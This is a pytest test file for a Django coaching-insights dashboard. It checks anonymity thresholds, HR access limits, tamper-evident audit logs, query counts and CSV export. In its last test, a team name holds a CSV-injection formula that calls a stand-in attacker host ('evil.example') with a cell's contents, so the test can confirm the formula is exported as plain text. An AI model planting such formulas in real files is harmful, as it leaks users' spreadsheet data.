import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
import time_machine
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts.models import AuditEvent, Membership, Organisation, User
from accounts.services import audit_log_verify
from insights.models import PublishedCell, PublishedMonth
from insights.selectors import PERSPECTIVES, dashboard
from reflections.dimensions import DIMENSION_KEYS
from reflections.rollups import activity_publish_closed_month
from reflections.services import checkin_submit, run_checkins
from tests.factories import (
    CheckInRoundFactory,
    HRAdminMembershipFactory,
    MembershipFactory,
    NoteFactory,
    OrganisationFactory,
    ReflectionFactory,
    RelationshipFactory,
    SessionFactory,
    TeamFactory,
)
from tests.helpers import text

pytestmark = pytest.mark.django_db
LAST_MONTH = datetime(2026, 10, 15, 10, tzinfo=UTC)
NOW = datetime(2026, 11, 10, 10, tzinfo=UTC)


def _answer(relationship, who, value, when=LAST_MONTH):
    """One person's check-in answers, through the real submission path."""
    with time_machine.travel(when, tick=False):
        round_ = relationship.checkin_rounds.filter(
            closed_at__isnull=True, closes_on__gte=when.date()
        ).first()
        if round_ is None:
            relationship.checkin_rounds.filter(closed_at__isnull=True).update(closed_at=when)
            round_ = CheckInRoundFactory(relationship=relationship, opens_on=when.date())
        checkin_submit(
            round_=round_,
            user=getattr(relationship, who),
            answers=dict.fromkeys(DIMENSION_KEYS, value),
        )


def _team_with_pairs(organisation, name, size):
    """A team whose `size` members are coachees, each with a coach outside the team."""
    team = TeamFactory(organisation=organisation, name=name)
    pairs = []
    for _ in range(size):
        coachee = MembershipFactory(organisation=organisation, team=team).user
        pairs.append(RelationshipFactory(organisation=organisation, coachee=coachee))
    return team, pairs


def _publish(organisation, when=NOW):
    """What the daily run_checkins does once a month has closed."""
    with time_machine.travel(when, tick=False):
        activity_publish_closed_month(organisation, when.date())


def _page(client, organisation):
    hr = HRAdminMembershipFactory(organisation=organisation).user
    _publish(organisation)
    with time_machine.travel(NOW, tick=False):
        client.force_login(hr)
        return client.get(reverse("insights_dashboard")), client.get(reverse("insights_export"))


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_team_of_four_beside_a_team_of_six_in_an_organisation_of_ten(client):
    organisation = OrganisationFactory(anonymity_threshold=5)
    _, fours = _team_with_pairs(organisation, "Four", 4)
    _, sixes = _team_with_pairs(organisation, "Six", 6)
    # The Four team has fewer than k members: folded into "Other teams".
    for relationship in fours:
        _answer(relationship, "coachee", 1)
    for relationship in sixes:
        _answer(relationship, "coachee", 5)

    page, export = _page(client, organisation)

    body = text(page)
    assert "3.40 (10 people)" in body, "the organisation's ten are shown"
    team_rows = [
        row
        for row in _csv(export)
        if row and row[0] in {"Six", "Other teams and people without a team"}
    ]
    coachee_rows = [r for r in team_rows if r[2] == "coachee_about_coach"]
    assert {r[0] for r in coachee_rows} == {"Six", "Other teams and people without a team"}
    assert all(r[4] == "" for r in coachee_rows), "neither team can be shown"
    assert {r[6] for r in coachee_rows} == {
        "fewer than 5 responses",
        "hidden so a smaller group can't be worked out",
    }
    assert "5.0" not in body and "1.0" not in body


def test_one_new_answer_in_the_current_month_changes_nothing_published(client):
    organisation = OrganisationFactory(anonymity_threshold=3)
    _, pairs = _team_with_pairs(organisation, "Team", 5)
    for relationship in pairs:
        _answer(relationship, "coachee", 4)
    before = _csv(_page(client, organisation)[1])

    _answer(pairs[0], "coach", 1, when=NOW - timedelta(days=1))

    after = _csv(_page(client, organisation)[1])
    assert before == after


def test_lowering_k_below_three_is_refused_and_every_change_recorded(client):
    organisation = OrganisationFactory(anonymity_threshold=5)
    hr = HRAdminMembershipFactory(organisation=organisation).user
    client.force_login(hr)

    client.post(
        reverse("organisation_settings"), {"org-name": "Org", "org-anonymity_threshold": "2"}
    )
    client.post(
        reverse("organisation_settings"), {"org-name": "Org", "org-anonymity_threshold": "7"}
    )
    client.post(
        reverse("organisation_settings"), {"org-name": "Org", "org-anonymity_threshold": "3"}
    )

    organisation.refresh_from_db()
    assert organisation.anonymity_threshold == 3
    assert list(
        AuditEvent.objects.filter(action__startswith="organisation.threshold")
        .values_list("action", flat=True)
        .order_by("id")
    ) == ["organisation.threshold_raised_5_to_7", "organisation.threshold_lowered_7_to_3"]


def test_an_hr_admin_reaches_no_private_content(client):
    organisation = OrganisationFactory()
    relationship = RelationshipFactory(organisation=organisation)
    session = SessionFactory(relationship=relationship, summary="canary-hr-summary")
    note = NoteFactory(relationship=relationship, session=session, body="canary-hr-note")
    round_ = CheckInRoundFactory(relationship=relationship)
    reflection = ReflectionFactory(author=relationship.coach, body="canary-hr-reflection")
    hr = HRAdminMembershipFactory(organisation=organisation).user
    client.force_login(hr)

    urls = [
        reverse("relationship_detail", args=[relationship.public_id]),
        reverse("session_detail", args=[session.public_id]),
        reverse("note_edit", args=[note.public_id]),
        reverse("checkin_detail", args=[round_.public_id]),
        reverse("relationship_trend", args=[relationship.public_id]),
        reverse("reflection_edit", args=[reflection.public_id]),
    ]
    for url in urls:
        assert client.get(url).status_code == 404, url
    everything = "".join(
        client.get(url).content.decode()
        for url in [
            reverse("insights_dashboard"),
            reverse("insights_export"),
            reverse("organisation"),
            reverse("organisation_audit"),
            reverse("home"),
        ]
    )
    assert "canary-hr" not in everything


def test_members_get_a_404_for_the_dashboard(member_client):
    assert member_client.get(reverse("insights_dashboard")).status_code == 404
    assert member_client.get(reverse("insights_export")).status_code == 404


def _published(organisation):
    return sorted(
        PublishedCell.objects.filter(month__organisation=organisation).values_list(
            "month__period", "group", "perspective", "measure", "value", "respondents", "reason"
        ),
        key=str,
    )


def test_rebuild_publishes_the_missing_months_as_run_checkins_would(client):
    organisation = OrganisationFactory(anonymity_threshold=3)
    _, pairs = _team_with_pairs(organisation, "A", 4)
    _team_with_pairs(organisation, "B", 2)
    for index, relationship in enumerate(pairs):
        _answer(relationship, "coachee", 2 + index % 3)
        _answer(relationship, "coach", 4)
    _answer(pairs[0], "coachee", 5, when=NOW)  # the current month: not published
    _publish(organisation)
    by_run_checkins = _published(organisation)
    PublishedMonth.objects.filter(organisation=organisation).delete()  # as after an upgrade

    with time_machine.travel(NOW, tick=False):
        call_command("rebuild_insights")

    assert _published(organisation) == by_run_checkins
    assert set(
        PublishedMonth.objects.filter(organisation=organisation).values_list("period", flat=True)
    ) == {date(2026, 10, 1)}
    assert ("A", "coachee_about_coach", "overall") in {row[1:4] for row in by_run_checkins}


def test_rebuild_reports_a_changed_month_and_never_rewrites_it(client):
    organisation = OrganisationFactory(anonymity_threshold=3)
    team, pairs = _team_with_pairs(organisation, "A", 4)
    for relationship in pairs:
        _answer(relationship, "coachee", 4)
    before, _ = _page(client, organisation)
    published = _published(organisation)
    with time_machine.travel(NOW, tick=False):
        call_command("rebuild_insights")  # nothing changed: no complaint
    # Someone leaves the team after the month was published.
    Membership.objects.filter(user=pairs[0].coachee).update(team=None)

    out, err = io.StringIO(), io.StringIO()
    with time_machine.travel(NOW, tick=False), pytest.raises(CommandError, match="differ"):
        call_command("rebuild_insights", stdout=out, stderr=err)

    assert "2026-10: A · coachee_about_coach · overall" in err.getvalue()
    assert "4.0" not in err.getvalue(), "no figures in the report"
    assert _published(organisation) == published
    after, _ = _page(client, organisation)
    assert "4.00 (4 people)" in text(after) and text(after) == text(before)


def test_viewing_and_exporting_are_audited_and_the_chain_verifies(client):
    organisation = OrganisationFactory()
    _page(client, organisation)

    actions = set(AuditEvent.objects.values_list("action", flat=True))
    assert {"insights.viewed", "insights.exported"} <= actions
    assert audit_log_verify() == []
    call_command("verify_audit_log")


def test_an_edited_or_deleted_audit_event_is_detected(client):
    organisation = OrganisationFactory()
    _page(client, organisation)
    _page(client, organisation)
    first = AuditEvent.objects.order_by("id").first()
    AuditEvent.objects.filter(pk=first.pk).update(action="nothing.happened")

    assert any("contents were changed" in p for p in audit_log_verify())
    with pytest.raises(ValueError, match="append-only"):
        AuditEvent.objects.last().delete()
    second = AuditEvent.objects.order_by("id")[1]
    AuditEvent.objects.filter(pk=second.pk).delete()  # behind the model's back
    problems = audit_log_verify()
    assert any("deleted or changed" in p for p in problems)


def test_people_see_the_audit_events_about_themselves(client, relationship):
    client.force_login(relationship.coachee)
    client.post(
        reverse("relationship_transition", args=[relationship.public_id]), {"action": "pause"}
    )
    client.force_login(relationship.coach)

    page = text(client.get(reverse("my_activity")))

    # In plain words (issue 13, item 4), never the raw event code.
    assert "paused coaching with" in page
    assert "relationship.paused" not in page
    assert "Sam Coachee" in page


def test_dashboard_queries_do_not_grow_with_the_organisation(client):
    def build(members):
        organisation = OrganisationFactory()
        team = TeamFactory(organisation=organisation)
        users = User.objects.bulk_create(
            User(email=f"m{i}-{organisation.slug}@example.com") for i in range(members)
        )
        Membership.objects.bulk_create(
            Membership(user=user, organisation=organisation, team=team) for user in users
        )
        for month in range(1, 11):
            published = PublishedMonth.objects.create(
                organisation=organisation, period=date(2026, month, 1), threshold=5
            )
            PublishedCell.objects.bulk_create(
                PublishedCell(
                    month=published,
                    position=position,
                    group=group,
                    perspective=perspective,
                    measure=measure,
                    value=4,
                    respondents=members,
                )
                for position, group, measures in (
                    (0, "Whole organisation", ["overall", *DIMENSION_KEYS]),
                    (1, team.name, ["overall"]),
                )
                for perspective in PERSPECTIVES
                for measure in measures
            )
        return organisation

    counts = []
    for size in (50, 5000):
        organisation = build(size)
        hr = HRAdminMembershipFactory(organisation=organisation).user
        client.force_login(hr)
        with time_machine.travel(NOW, tick=False):
            client.force_login(hr)
            client.get(reverse("insights_dashboard"))
            with CaptureQueriesContext(connection) as captured:
                response = client.get(reverse("insights_dashboard"))
        assert response.status_code == 200
        assert f"({size} people)" in response.content.decode()
        statements = [q["sql"] for q in captured.captured_queries]
        counts.append(len([q for q in statements if "SAVEPOINT" not in q]))
        published = [q for q in statements if "insights_published" in q]
        assert len(published) == 2, "the months, and their cells"
    assert counts[0] == counts[1]
    assert counts[0] <= 12, "savepoints aside"


def test_each_dimension_has_its_own_trend(client):
    organisation = OrganisationFactory(anonymity_threshold=3)
    _, pairs = _team_with_pairs(organisation, "Team", 4)
    for relationship in pairs:
        _answer(relationship, "coachee", 2)
    hr = HRAdminMembershipFactory(organisation=organisation).user
    _publish(organisation)
    with time_machine.travel(NOW, tick=False):
        client.force_login(hr)
        page = client.get(reverse("insights_dashboard"), {"dimension": "honesty"})

    assert "Trust over time, both ways: honesty" in text(page)
    assert "<circle" in page.content.decode()


def test_the_chart_follows_the_chosen_dimension_and_the_table_has_every_dimension(client):
    """The dashboard builds only what it shows (issue 15): the chosen dimension of every
    month for the chart, every dimension of the latest month for its table."""
    organisation = OrganisationFactory(anonymity_threshold=3)
    _, pairs = _team_with_pairs(organisation, "Team", 3)
    september = datetime(2026, 9, 15, 10, tzinfo=UTC)
    for when, honesty in ((september, 5), (LAST_MONTH, 4)):
        for relationship in pairs:
            answers = dict.fromkeys(DIMENSION_KEYS, 2) | {"honesty": honesty}
            with time_machine.travel(when, tick=False):
                relationship.checkin_rounds.filter(closed_at__isnull=True).update(closed_at=when)
                round_ = CheckInRoundFactory(relationship=relationship, opens_on=when.date())
                checkin_submit(round_=round_, user=relationship.coachee, answers=answers)
        _publish(organisation, when + timedelta(days=20))

    with time_machine.travel(NOW, tick=False):
        honesty = dashboard(organisation, "honesty")
        overall = dashboard(organisation, "overall")

    assert [(p.when, p.mine) for p in honesty["points"]] == [
        (date(2026, 9, 1), 5.0),
        (date(2026, 10, 1), 4.0),
    ]
    assert [p.mine for p in overall["points"]] == [
        m.cells[PERSPECTIVES[0]].mean for m in overall["months"]
    ]
    assert all(p.mine < 4.0 for p in overall["points"])
    for table in (honesty["dimension_rows"], overall["dimension_rows"]):
        shown = {d.key: cells[0].mean for d, cells in table}
        assert shown == dict.fromkeys(DIMENSION_KEYS, 2.0) | {"honesty": 4.0}


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    team_sizes=st.lists(st.integers(min_value=1, max_value=8), min_size=1, max_size=4),
    k=st.integers(min_value=3, max_value=6),
    values=st.lists(st.integers(min_value=1, max_value=5), min_size=40, max_size=40),
)
def test_random_organisations_never_publish_a_cell_under_k_or_a_recoverable_one(
    team_sizes, k, values
):
    organisation = OrganisationFactory(anonymity_threshold=k)
    answers = iter(values)
    for index, size in enumerate(team_sizes):
        _, pairs = _team_with_pairs(organisation, f"T{index}", size)
        for relationship in pairs:
            _answer(relationship, "coachee", next(answers))
    _publish(organisation)
    with time_machine.travel(NOW, tick=False):
        data = dashboard(organisation)

    for month in data["months"]:
        for perspective in PERSPECTIVES:
            cell = month.cells[perspective]
            assert cell.suppressed or cell.respondents is None or cell.respondents >= k
    for perspective in PERSPECTIVES:
        children = [row.cells[perspective] for row in data["team_rows"] if perspective in row.cells]
        parent = data["latest"].cells[perspective]
        for child in children:
            assert child.suppressed or child.respondents >= k
        if not parent.suppressed and any(c.suppressed for c in children):
            # What HR can work out as a whole: the organisation minus the shown teams.
            shown = sum(c.respondents for c in children if not c.suppressed)
            assert parent.respondents - shown >= k
    Organisation.objects.filter(pk=organisation.pk).delete()
    Membership.objects.filter(organisation=organisation).delete()


def test_run_checkins_publishes_a_closed_month_once(relationship):
    SessionFactory(relationship=relationship, held_on=date(2026, 10, 20))

    with time_machine.travel(NOW, tick=False):
        run_checkins()
        run_checkins()

    month = PublishedMonth.objects.get(organisation=relationship.organisation)
    assert month.period == date(2026, 10, 1)
    sessions = month.cells.get(measure="sessions_held")
    assert (sessions.value, sessions.reason) == (None, "fewer than 5 people outside HR")


def test_activity_figures_about_k_people_are_shown_and_about_fewer_are_not(client):
    organisation = OrganisationFactory(anonymity_threshold=3)
    _, pairs = _team_with_pairs(organisation, "Team", 2)  # four people in two pairs
    for relationship in pairs:
        SessionFactory(relationship=relationship, held_on=date(2026, 10, 20))
    SessionFactory(relationship=pairs[0], held_on=date(2026, 9, 20))  # two people only
    for relationship in pairs:
        relationship.accepted_at = datetime(2026, 9, 1, tzinfo=UTC)
        relationship.save(update_fields=["accepted_at"])
    with time_machine.travel(datetime(2026, 10, 2, tzinfo=UTC), tick=False):
        activity_publish_closed_month(organisation, date(2026, 10, 2))

    _, export = _page(client, organisation)

    rows = {(r[0], r[1]): r[2:] for r in _csv(export) if len(r) == 4}
    assert rows[("2026-10", "sessions held")] == ["2", ""]
    assert rows[("2026-10", "active relationships")] == ["2", ""]
    assert rows[("2026-09", "sessions held")] == ["", "fewer than 3 people outside HR"]
    with time_machine.travel(NOW, tick=False):
        page = text(client.get(reverse("insights_dashboard")))
    assert "Not shown: fewer than 3 people outside HR" in page


def test_attack_of_the_empty_months_the_table_starts_at_the_first_published_month(client):
    """The table showed six empty months from before the organisation had any check-ins,
    and mixed 3.7 with 3.52."""
    organisation = OrganisationFactory()
    _team, pairs = _team_with_pairs(organisation, "Platform", 6)
    for i, pair in enumerate(pairs):
        _answer(pair, "coachee", 3 + i % 2)  # 3, 4, 3, 4, 3, 4: a mean of 3.5

    page, _csv_download = _page(client, organisation)

    table = text(page).split("Month by month", 1)[1].split("The reciprocity gap", 1)[0]
    assert "October 2026" in table
    assert "September 2026" not in table and "November 2025" not in table
    assert "3.50 (6 people)" in table, "two decimals everywhere"


def test_attack_a_team_name_that_is_a_formula_stays_text_in_the_csv(client):
    """An HR admin's team name became a live formula when a colleague opened the CSV."""
    organisation = OrganisationFactory()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    _team, pairs = _team_with_pairs(organisation, formula, 6)
    _other, others = _team_with_pairs(organisation, "Platform", 6)
    for pair in pairs + others:
        _answer(pair, "coachee", 4)

    _page_response, download = _page(client, organisation)

    groups = {row[0] for row in _csv(download)[2:] if row}
    assert "'" + formula in groups
    assert formula not in groups
